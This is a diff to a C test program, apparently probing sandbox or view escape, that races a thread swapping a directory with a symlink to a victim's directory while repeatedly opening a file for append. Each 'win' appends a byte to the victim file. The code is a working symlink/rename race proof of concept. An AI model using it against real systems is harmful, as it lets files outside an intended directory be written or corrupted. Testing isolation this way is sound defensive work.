@@ -4,8 +4,11 @@
  *
  *   component_race MODE VICTIM [TRIES]   TRIES opens (5000) of S/a/NAME for appending,
  *                                        more (up to 20 times as many) until one wins
- *     symlink   a is a symlink, replaced (rename) by one to VICTIM's directory and back
- *     exchange  a is a directory, swapped with the symlink b (RENAME_EXCHANGE)
+ *     symlink   a is made a directory holding NAME (a hard link of the harmless
+ *               file S/decoy), emptied, removed, made a symlink to VICTIM's
+ *               directory, removed, and again
+ *     exchange  a is a directory holding NAME (the harmless file), swapped with
+ *               the symlink b (RENAME_EXCHANGE)
  *
  * Each open that got a file other than the harmless one appends a byte (a
  * "win"): natively VICTIM, in a view maybe its copy. Exit 0 if some open
@@ -16,7 +19,7 @@
 #include <linux/fs.h>
 
 static char scratch[] = "/tmp/escape-race-XXXXXX";
-static char a[64], b[64], tmp[64], harmless_file[128];
+static char a[64], b[64], decoy_path[64], in_a[128];
 static const char *victim;
 static char *victim_dir;
 static int exchange;
@@ -29,11 +32,12 @@ static void *flip(void *unused)
         if (exchange) {
             syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
         } else {
-            unlink(tmp);
-            if (symlink(victim_dir, tmp) == 0)
-                rename(tmp, a);
-            if (symlink("h", tmp) == 0)
-                rename(tmp, a);
+            mkdir(a, 0755);
+            link(decoy_path, in_a);
+            unlink(in_a);
+            rmdir(a);
+            symlink(victim_dir, a);
+            unlink(a);
         }
     }
     return NULL;
@@ -41,8 +45,8 @@ static void *flip(void *unused)
 
 static void clean(void)
 {
-    const char *names[] = {a, b, tmp};
-    for (int i = 0; i < 3; i++) {
+    const char *names[] = {a, b};
+    for (int i = 0; i < 2; i++) {
         char inner[128];
         snprintf(inner, sizeof inner, "%s/%s", names[i], name_of(victim));
         if (unlink(names[i])) {  /* a directory */
@@ -50,8 +54,7 @@ static void clean(void)
             rmdir(names[i]);
         }
     }
-    unlink(harmless_file);
-    rmdir(joined(scratch, "h"));
+    unlink(decoy_path);
     rmdir(scratch);
 }
 
@@ -72,25 +75,20 @@ int main(int argc, char **argv)
         fail("mkdtemp");
     snprintf(a, sizeof a, "%s/a", scratch);
     snprintf(b, sizeof b, "%s/b", scratch);
-    snprintf(tmp, sizeof tmp, "%s/tmp", scratch);
-    char *harmless = exchange ? a : joined(scratch, "h");
-    snprintf(harmless_file, sizeof harmless_file, "%s/%s", harmless, name_of(victim));
+    snprintf(in_a, sizeof in_a, "%s/%s", a, name_of(victim));
+    snprintf(decoy_path, sizeof decoy_path, "%s/decoy", scratch);
     int fd;
-    if (mkdir(harmless, 0755) || (fd = creat(harmless_file, 0644)) < 0)
-        fail("make the harmless directory");
-    if (fstat(fd, &decoy))
-        fail("fstat");
+    if ((fd = creat(decoy_path, 0644)) < 0 || fstat(fd, &decoy))
+        fail("make the harmless file");
     close(fd);
-    if (exchange ? symlink(victim_dir, b) : symlink("h", a))
-        fail("symlink");
-    char path[128];
-    snprintf(path, sizeof path, "%s/%s", a, name_of(victim));
+    if (exchange && (mkdir(a, 0755) || rename(decoy_path, in_a) || symlink(victim_dir, b)))
+        fail("make the harmless directory and the symlink");
     pthread_t thread;
     if (pthread_create(&thread, NULL, flip, NULL))
         fail("pthread_create");
     int wins = 0, real = 0;
     for (int i = 0; i < tries || (!wins && i < 20 * tries); i++) {
-        int fd = open(path, O_WRONLY | O_APPEND);
+        int fd = open(in_a, O_WRONLY | O_APPEND);
         if (fd < 0)
             continue;
         struct stat st;
